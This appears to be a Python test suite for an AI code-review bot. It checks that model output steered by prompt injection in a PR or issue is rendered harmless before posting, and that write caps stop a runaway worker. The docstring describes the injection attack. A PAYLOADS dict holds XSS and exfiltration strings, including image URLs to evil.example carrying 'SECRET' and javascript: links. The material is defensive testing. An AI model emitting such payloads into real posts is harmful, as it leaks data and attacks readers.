"""Trust class: the model's output, posted as the bot.

The model read what the PR author wrote, so what it writes is the PR author's as far as trust
goes. The attack: a diff (or an issue) steers the model into writing mentions that ping people
and teams, a remote image whose URL carries what the model read (fetched the moment anyone opens
the page), raw HTML and a ``javascript:`` link, into every text the bot posts: the review's
summary, an inline finding, the triage comment. Each is driven through the real path (a model
answering over the anthropic SDK, the worker's tools, the gateway, the sandbox GitHub over
HTTP), and what the sandbox received is what is judged: rendered as CommonMark, it must hold no
mention, image, tag or such link, while the words stay readable.

A runaway worker is the other half: a model that adds labels fifty times (no tool refuses a
second label) and a worker whose gateway posts fifty comments are both stopped at the run's
write caps, the refusals reach the model as tool errors, and the run report shows the counts.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from agents.github.gateway import GitHubGateway
from agents.github.outbound import MARK, MAX_BODY_CHARS
from agents.github.writes import WriteRefused
from agents.posting.keys import marker, with_marker
from agents.work import Task
from flows.run.report import RunReport, markdown_summary
from sandbox.github.seed import REVIEWER_BOT, WIDGETS, WIDGETS_ISSUE_DOCS
from tests.github.sandbox_helpers import ReMintingToken
from tests.worker.conftest import Swarm
from tests.worker.fake_models import ReplayModel, message, tool_use

pytestmark = pytest.mark.anyio

PAYLOADS = {
    "user mention": "@maintainer",
    "team mention": "@acme/core",
    "remote image": "![x](https://evil.example/?q=SECRET)",
    "html image": '<img src="https://evil.example/p.png?q=SECRET">',
    "script": "<script>alert(1)</script>",
    "javascript link": "[click](javascript:alert(1))",
    "plain http link": "[insecure](http://evil.example/login)",
}
ATTACK = "Please look: " + " and ".join(PAYLOADS.values()) + "."
# Code in a committable suggestion: applied byte for byte, so never touched.
REPLACEMENT = "    @property\n    def size(self) -> int:  # <b>@maintainer</b>\n        return 1"
FILE = "src/widgets/shape.py"
_GITHUB = MarkdownIt("commonmark")
_MENTION = re.compile(r"(?:^|[^\w`])@[A-Za-z0-9]")


def live_constructs(body: str) -> list[str]:
    """What GitHub would make of ``body`` that pings, fetches, runs or links off https: the
    body rendered as CommonMark (HTML on), code blocks and code spans aside."""
    rendered = _GITHUB.render(body)
    text = re.sub(r"<pre>.*?</pre>|<code>.*?</code>", "", rendered, flags=re.S)
    found = []
    if "<img" in rendered:
        found.append("image")
    if re.search(r"<(?!/?(?:p|em|strong|a|code|pre|ul|ol|li|h\d|br|hr|blockquote)\b)[a-z]", text):
        found.append("raw html")
    if re.search(r'href="(?!https://|http://127\.0\.0\.1)', rendered):
        found.append("link off https")
    if _MENTION.search(re.sub(r"<[^>]+>", " ", text)):
        found.append("mention")
    return found


def shown(body: str) -> str:
    """The body as a reader sees its characters (the marks show nothing)."""
    return body.replace(MARK, "")


def _pull(swarm: Swarm) -> int:
    source = "class Shape:\n    def size(self) -> int:\n        return 1\n"
    return swarm.sandbox.state.add_pull(WIDGETS, "Shapes", {FILE: source}).number


def _review_model() -> ReplayModel:
    finding = {
        "path": FILE,
        "line": 3,
        "start_line": 2,
        "severity": "major",
        "category": "bug",
        "message": ATTACK,
        "replacement": REPLACEMENT,
    }
    return ReplayModel(
        [
            message([tool_use("list_pull_files", {}, 1)]),
            message([tool_use("submit_review", {"summary": ATTACK, "findings": [finding]}, 2)]),
        ]
    )


async def test_a_steered_review_posts_no_mention_image_html_or_script_link(swarm: Swarm) -> None:
    number = _pull(swarm)
    swarm.use_model(_review_model().client())

    outcome = await swarm.review(WIDGETS, number)

    assert outcome.status == "succeeded", outcome.reason
    issue = swarm.sandbox.state.pull(WIDGETS, number)
    assert issue.pull is not None
    [review] = [r for r in issue.pull.reviews if r.user_login.endswith("[bot]")]
    [inline] = issue.pull.review_comments
    [summary] = [c for c in issue.comments if c.user_login.endswith("[bot]")]
    for where, body in {
        "review": review.body,
        "inline": inline.body,
        "summary": summary.body,
    }.items():
        assert live_constructs(body) == [], where
    for body in (inline.body, summary.body):
        # The model's words are still there to read, as text.
        assert "@maintainer" in shown(body) and "javascript:alert(1)" in shown(body)
    # The suggestion is code: it applies exactly as the model wrote it.
    assert f"```suggestion\n{REPLACEMENT}\n```" in inline.body
    # The product's own markup survives: its link to the review, its markers.
    assert f"([review]({outcome.review_url}))" in summary.body
    assert "<!-- swarm:finding key=" in inline.body
    assert "<!-- swarm:review key=" in review.body


async def test_a_steered_triage_comment_posts_no_mention_image_html_or_script_link(
    swarm: Swarm,
) -> None:
    model = ReplayModel([message([tool_use("comment_issue", {"body": ATTACK}, 1)])])
    swarm.use_model(model.client())
    task = Task(kind="triage_issue", repo=WIDGETS, number=WIDGETS_ISSUE_DOCS)

    outcome = await swarm.run(await swarm.dispatch(task, role="triager"))

    assert outcome.status == "succeeded", outcome.reason
    [comment] = swarm.sandbox.state.repo(WIDGETS).issues[WIDGETS_ISSUE_DOCS].comments
    assert live_constructs(comment.body) == []
    assert ATTACK in shown(comment.body)
    assert "<!-- swarm:comment key=" in comment.body


async def test_a_steered_answer_in_a_review_thread_posts_no_mention_image_html_or_link(
    swarm: Swarm,
) -> None:
    from sandbox.github.seed import WIDGETS_PR_DEBUG_PRINT

    pr = WIDGETS_PR_DEBUG_PRINT
    root, asked, task = await swarm.maintainers_question(WIDGETS, pr, "Why is this a problem?")
    model = ReplayModel([message([tool_use("reply_in_thread", {"body": ATTACK}, 1)])])
    swarm.use_model(model.client())
    outcome = await swarm.run(await swarm.dispatch(task, role="responder"))

    assert outcome.status == "succeeded", outcome.reason
    pull = swarm.sandbox.state.pull(WIDGETS, pr).pull
    assert pull is not None
    [answer] = [c for c in pull.review_comments if c.in_reply_to_id == root.id and c.id != asked]
    assert live_constructs(answer.body) == []
    assert ATTACK in shown(answer.body)


async def test_a_body_over_githubs_limit_is_cut_and_keeps_its_marker(swarm: Swarm) -> None:
    # A tool that forgot to bound its text: the gateway still posts what GitHub accepts.
    number = _pull(swarm)
    head = swarm.sandbox.state.pull(WIDGETS, number).pull
    assert head is not None
    key = f"{WIDGETS}#{number}@{head.head_sha}:reviewer"
    huge = "word " * 14_000  # 70,000 characters
    gateway = _bot_gateway(swarm, "w-huge")
    async with gateway:
        await gateway.create_review(
            WIDGETS, number, with_marker(huge, key), commit_id=head.head_sha
        )
        await gateway.create_issue_comment(WIDGETS, number, huge)
    pull = swarm.sandbox.state.pull(WIDGETS, number)
    assert pull.pull is not None
    [review] = pull.pull.reviews
    [comment] = pull.comments
    assert len(review.body) <= MAX_BODY_CHARS and len(comment.body) <= MAX_BODY_CHARS
    assert review.body.endswith(marker(key)), "the exactly-once marker must survive the cut"
    assert "longer than GitHub allows" in comment.body


async def test_mentions_the_code_names_itself_are_kept(swarm: Swarm) -> None:
    number = _pull(swarm)
    gateway = _bot_gateway(swarm, "w-mentions")
    async with gateway:
        await gateway.create_issue_comment(
            WIDGETS, number, "@octo-dev asked; @maintainer did not", mentions=["octo-dev"]
        )
    [comment] = swarm.sandbox.state.pull(WIDGETS, number).comments
    assert comment.body.startswith("@octo-dev asked")
    assert "@maintainer" not in comment.body


def _bot_gateway(swarm: Swarm, worker_id: str) -> GitHubGateway:
    """A gateway of the swarm's run, as the reviewer bot: the one every worker of it gets."""
    token = ReMintingToken(swarm.sandbox.state)
    return swarm.runtime.gateway(REVIEWER_BOT, token, worker_id=worker_id)


def _labels_forever(count: int) -> ReplayModel:
    uses = [tool_use("add_labels", {"labels": [f"spam-{n}"]}, n) for n in range(count)]
    return ReplayModel([message(uses)])


async def test_a_runaway_worker_is_stopped_at_the_write_cap_and_the_report_says_so(
    swarm: Swarm,
) -> None:
    model = _labels_forever(50)
    swarm.use_model(model.client())
    task = Task(kind="triage_issue", repo=WIDGETS, number=WIDGETS_ISSUE_DOCS)

    outcome = await swarm.run(await swarm.dispatch(task, role="triager"))

    cap = swarm.runtime.settings.write_caps.labels_per_pr
    sent = [r for r in swarm.writes() if r.route.endswith("/labels")]
    assert len(sent) == cap
    assert outcome.status == "succeeded", outcome.reason
    # Each refusal went back to the model as a tool error, naming the cap.
    results = [
        block
        for request in model.requests
        for m in request["messages"]
        if isinstance(m["content"], list)
        for block in m["content"]
        if block.get("type") == "tool_result" and block.get("is_error")
    ]
    assert len(results) == 50 - cap
    assert "SWARM_WRITE_CAPS__LABELS_PER_PR" in str(results[0])

    tally = swarm.runtime.writes.tally()
    [labels] = [c for c in tally.counts if c.operation == "label"]
    assert (labels.target, labels.sent, labels.refused) == (
        f"{WIDGETS}#{WIDGETS_ISSUE_DOCS}",
        cap,
        50 - cap,
    )
    report = RunReport(run_id=swarm.run_id, role="triager", repos=[WIDGETS], writes=tally)
    assert f"{50 - cap} write(s) refused by the write caps" in report.headline()
    summary = markdown_summary(report)
    assert f"| label | {WIDGETS}#{WIDGETS_ISSUE_DOCS} | {cap} | {50 - cap} | {cap} |" in summary


async def test_fifty_comments_from_one_run_stop_at_the_cap(swarm: Swarm) -> None:
    number = _pull(swarm)
    gateway = _bot_gateway(swarm, "w-loop")
    refused = 0
    async with gateway:
        for n in range(50):
            try:
                await gateway.create_issue_comment(WIDGETS, number, f"comment {n}")
            except WriteRefused:
                refused += 1
    cap = swarm.runtime.settings.write_caps.comments_per_pr
    assert len(swarm.sandbox.state.pull(WIDGETS, number).comments) == cap
    assert refused == 50 - cap
    [count] = swarm.runtime.writes.tally().counts
    assert (count.operation, count.sent, count.refused) == ("comment", cap, 50 - cap)
